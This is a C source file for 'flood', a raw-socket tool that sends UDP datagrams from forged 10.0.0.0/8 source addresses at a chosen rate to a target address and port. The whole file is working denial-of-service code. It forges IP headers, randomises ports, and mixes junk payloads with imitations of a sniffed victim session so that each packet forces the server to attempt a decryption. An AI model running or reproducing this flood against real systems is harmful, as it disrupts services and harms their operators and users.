/* flood - datagrams from forged addresses, as fast as is asked for, by a raw socket.
 *
 *     flood INTERFACE MAC ADDRESS PORT SESSION RATE SECONDS
 *
 * So many a second, each from another address of 10.0.0.0/8 and another port. A third is
 * rubbish, a third looks like packets of sessions that do not exist, a third like packets of
 * SESSION, which is somebody's who was listened to: those cost the server a decryption each.
 * Prints how many left. Needs root.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, PAYLOAD_LEAST = 30, PAYLOAD_MOST = 600 };

struct frame {
    struct ether_header eth;
    struct iphdr ip;
    struct udphdr udp;
    uint8_t payload[PAYLOAD_MOST];
} __attribute__((packed));

static uint64_t state = 88172645463325252ULL;

static uint64_t draw(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static int64_t now_us(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (int64_t)t.tv_sec * 1000000 + t.tv_nsec / 1000;
}

static uint16_t sum_of(const void *bytes, size_t len)
{
    const uint16_t *p = bytes;
    uint32_t sum = 0;

    for (size_t i = 0; i < len / 2; i++)
        sum += p[i];
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* The head of a packet of that session: flags, session, number. */
static void look_like(uint8_t *p, uint32_t session)
{
    p[0] = 0x48;
    for (int i = 0; i < 4; i++)
        p[1 + i] = (uint8_t)(session >> (24 - 8 * i));
}

static size_t forge(struct frame *f, uint32_t session)
{
    size_t len = PAYLOAD_LEAST + draw() % (PAYLOAD_MOST - PAYLOAD_LEAST);
    unsigned kind = (unsigned)(draw() % 3);

    for (size_t i = 0; i + 8 <= len; i += 8) {
        uint64_t x = draw();
        memcpy(f->payload + i, &x, 8);
    }
    if (kind)
        look_like(f->payload, kind == 1 ? (uint32_t)draw() : session);
    f->ip.saddr = htonl(0x0a000000u | (draw() & 0xffffff));
    f->ip.tot_len = htons((uint16_t)(sizeof f->ip + sizeof f->udp + len));
    f->ip.check = 0;
    f->ip.check = sum_of(&f->ip, sizeof f->ip);
    f->udp.uh_sport = htons((uint16_t)(1024 + draw() % 60000));
    f->udp.uh_ulen = htons((uint16_t)(sizeof f->udp + len));
    return offsetof(struct frame, payload) + len;
}

static int open_raw(const char *interface, struct sockaddr_ll *at)
{
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)), on = 1;

    *at = (struct sockaddr_ll){ .sll_family = AF_PACKET,
                                .sll_protocol = htons(ETH_P_IP),
                                .sll_ifindex = (int)if_nametoindex(interface),
                                .sll_halen = ETH_ALEN };
    if (fd < 0 || !at->sll_ifindex || bind(fd, (struct sockaddr *)at, sizeof *at)) {
        perror(interface);
        exit(2);
    }
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    return fd;
}

int main(int argc, char **argv)
{
    static struct frame frames[BATCH];
    static struct iovec parts[BATCH];
    static struct mmsghdr messages[BATCH];
    struct sockaddr_ll at;
    struct in_addr to;
    uint64_t sent = 0;

    if (argc != 8 || !inet_aton(argv[3], &to)) {
        fprintf(stderr, "flood INTERFACE MAC ADDRESS PORT SESSION RATE SECONDS\n");
        return 2;
    }
    int fd = open_raw(argv[1], &at);
    struct ether_addr *mac = ether_aton(argv[2]);
    uint32_t session = (uint32_t)strtoul(argv[5], NULL, 10);
    double rate = atof(argv[6]);
    int64_t begun_us = now_us(), end_us = begun_us + (int64_t)(atof(argv[7]) * 1e6);

    for (int i = 0; mac && i < BATCH; i++) {
        struct frame *f = &frames[i];
        memcpy(f->eth.ether_dhost, mac, ETH_ALEN);
        memset(f->eth.ether_shost, 2, ETH_ALEN);
        f->eth.ether_type = htons(ETHERTYPE_IP);
        f->ip.version = 4;
        f->ip.ihl = 5;
        f->ip.ttl = 64;
        f->ip.protocol = IPPROTO_UDP;
        f->ip.daddr = to.s_addr;
        f->udp.uh_dport = htons((uint16_t)atoi(argv[4]));
        parts[i].iov_base = f;
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    for (int64_t now = now_us(); now < end_us; now = now_us()) {
        double due = rate * (double)(now - begun_us) / 1e6 - (double)sent;
        if (due < BATCH) {
            usleep(200);
            continue;
        }
        for (int i = 0; i < BATCH; i++)
            parts[i].iov_len = forge(&frames[i], session);
        int n = sendmmsg(fd, messages, BATCH, 0);
        sent += n > 0 ? (uint64_t)n : 0;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
